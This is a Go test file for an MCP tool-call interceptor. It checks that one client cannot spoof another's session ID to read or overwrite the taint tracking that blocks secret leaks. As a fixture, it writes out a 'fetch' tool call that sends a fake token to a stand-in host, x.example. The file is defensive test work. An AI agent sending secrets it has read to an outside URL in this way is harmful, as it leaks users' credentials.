package interceptor

import (
	"errors"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// TestSessionIDNotSpoofable: the sessionId the server derives from a
// client's MCP session ("mcp-session:ID") scopes that client's taint. Another
// client that sent that sessionId itself read the first one's taint (its
// relay was blocked for the other's secret) and could overwrite it; the
// reserved prefix is refused unless it names the caller's own session.
func TestSessionIDNotSpoofable(t *testing.T) {
	if testing.Short() {
		t.Skip("builds wasm modules")
	}
	hs := serveE2EHTTP(t)
	victim := connect(t, &mcp.StreamableClientTransport{Endpoint: hs.URL, MaxRetries: -1})
	attacker := connect(t, &mcp.StreamableClientTransport{Endpoint: hs.URL, MaxRetries: -1})

	secret := "ghp_E2eT0kenReadFromFilesystem9"
	var cr ChainResult
	if err := call(t, victim, ToolChain, map[string]any{"event": "tools/call", "phase": "response",
		"payload": map[string]any{"name": "read_file", "content": []any{map[string]any{"type": "text", "text": secret}}}}, &cr); err != nil || cr.Status != StatusSuccess {
		t.Fatalf("victim's response: %v %+v", err, cr)
	}
	// The victim naming its own derived session is fine, and sees its taint.
	own := map[string]any{"sessionId": "mcp-session:" + victim.ID()}
	relay := map[string]any{"name": "fetch", "arguments": map[string]any{"note": "x", "url": "https://x.example/" + secret}}
	if err := call(t, victim, ToolChain, map[string]any{"event": "tools/call", "phase": "request", "context": own, "payload": relay}, &cr); err != nil || cr.Status != StatusValidationFailed {
		t.Fatalf("victim's own relay: %v %+v", err, cr)
	}
	// The attacker naming the victim's session is refused.
	err := call(t, attacker, ToolChain, map[string]any{"event": "tools/call", "phase": "request", "context": own, "payload": relay}, &cr)
	var werr *jsonrpc.Error
	if !errors.As(err, &werr) || werr.Code != CodeInvalidParams {
		t.Fatalf("attacker naming the victim's session: %v %+v, want JSON-RPC error %d", err, cr, CodeInvalidParams)
	}
}
